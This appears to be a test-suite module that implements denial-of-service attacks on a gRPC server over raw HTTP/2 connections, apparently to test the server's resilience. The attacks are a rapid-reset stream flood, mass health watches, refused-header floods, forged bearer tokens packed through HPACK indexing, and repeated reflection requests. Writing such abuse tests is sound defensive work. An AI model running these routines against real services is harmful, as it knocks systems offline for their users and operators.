"""Many small things: streams that are reset at once, watches that stay, calls that are refused."""

from __future__ import annotations

import asyncio
import contextlib

from grpc_reflection.v1alpha.reflection_pb2 import ServerReflectionRequest

from tests.abuse.attackers.compressed import HEALTH, REFLECTION
from tests.support import frames
from tests.support.attack_process import Attack
from tests.support.open_loop import SEARCH
from tests.support.raw_connection import End, RawConnection


async def rapid_reset(attack: Attack) -> None:
    """Opens streams and resets them at once, at `bytes_per_second`, on one connection after the other."""
    rate, loop = attack.options["bytes_per_second"], asyncio.get_running_loop()
    block = frames.request_headers(SEARCH, attack.address, metadata=attack.options.get("metadata", ()))
    connection = await attack.connect()
    attack.is_on()
    began, sent = loop.time(), 0
    while True:
        if connection.gone.is_set() or connection.going_away:
            connection.close()
            connection = await attack.connect()
        while sent < (loop.time() - began) * rate and not connection.gone.is_set():
            before = connection.sent
            connection.reset(connection.call_with(block, end=False))
            sent += connection.sent - before
        await connection.drained()
        await asyncio.sleep(0.002)


async def empty_watches(attack: Attack) -> None:
    """`calls` health watches, 64 on a connection, all from one address."""
    count, source = attack.options["calls"], attack.options.get("source")
    opened = [await attack.connect(source=source) for _ in range((count + 63) // 64)]
    for number in range(count):
        opened[number // 64].call(HEALTH + "Watch", body=frames.message(b""))
    # A server that leaves some of them unanswered is as good.
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(3):
            while sum(len(one.begun) for one in opened) < count:
                await asyncio.sleep(0.01)
    attack.is_on()
    await asyncio.gather(*(one.gone.wait() for one in opened))


async def refused(attack: Attack) -> None:
    """Searches with headers that end in a refusal: `in_flight` at a time on each of `connections`, without a pause.

    Options: `metadata`.
    """
    options = attack.options
    first, repeated = _indexed(attack, options.get("metadata", ()))
    opened = [await attack.connect() for _ in range(options.get("connections", 1))]
    for connection in opened:
        connection.call_with(first, end=False)
        _keep_in_flight(connection, repeated, options.get("in_flight", 32))
    attack.is_on()
    await asyncio.gather(*(one.gone.wait() for one in opened))


async def forged_tokens(attack: Attack) -> None:
    """`calls` searches with the forged token `token` at once, which take 16 bytes each once the server knows it."""
    options = attack.options
    first, repeated = _indexed(attack, [("authorization", f"Bearer {options['token']}")])
    opened = [await attack.connect() for _ in range((options["calls"] + 63) // 64)]
    for number in range(options["calls"]):
        opened[number // 64].call_with(repeated if number % 64 else first, end=False)
    attack.is_on()
    await asyncio.Event().wait()


async def calls(attack: Attack) -> None:
    """Calls of `path` with the message `body` (hex) and `metadata`, `per_second` over `connections` until the end."""
    options, loop = attack.options, asyncio.get_running_loop()
    block = frames.request_headers(options["path"], attack.address, metadata=options["metadata"])
    body = frames.message(bytes.fromhex(options["body"]))
    opened = [await attack.connect() for _ in range(options.get("connections", 4))]
    attack.is_on()
    began, made = loop.time(), 0
    while True:
        due = int((loop.time() - began) * options["per_second"])
        for number in range(made, due):
            connection = opened[number % len(opened)]
            if len(connection.open_streams) < 64 and not connection.gone.is_set():
                connection.call_with(block, body)
        made = due
        await asyncio.sleep(0.002)


def _indexed(attack: Attack, metadata: frames.Metadata) -> tuple[bytes, bytes]:
    """A search's headers for a connection's first call, and for all further ones: a byte for each."""
    named = [
        (":path", SEARCH),
        (":authority", attack.address),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]
    named += [(name, value) for name, value in metadata]
    first = b"\x83\x86" + b"".join(frames.indexed_field(name, value) for name, value in named)
    # The static table ends at 61; what came last stands first behind it.
    return first, b"\x83\x86" + bytes(0x80 | 62 + number for number in range(len(named)))


def _keep_in_flight(connection: RawConnection, block: bytes, count: int) -> None:
    def again(_stream: int = 0, _end: End | None = None) -> None:
        if not connection.gone.is_set():
            connection.call_with(block, end=False)

    connection.on_end = again
    for _ in range(count):
        again()


async def reflection_stream(attack: Attack) -> None:
    """One stream that asks for a large description again and again, as fast as the server takes the questions."""
    question = ServerReflectionRequest(file_containing_symbol=attack.options["symbol"])
    many = frames.message(question.SerializeToString()) * 200
    connection = await attack.connect()
    stream = connection.call(REFLECTION, body=many, end=False)
    attack.is_on()
    while not connection.gone.is_set():
        await asyncio.sleep(0.005)
        if connection.unsent < len(many) and stream in connection.open_streams:
            connection.more(stream, many, end=False)
        elif stream in connection.ends:
            stream = connection.call(REFLECTION, body=many, end=False)
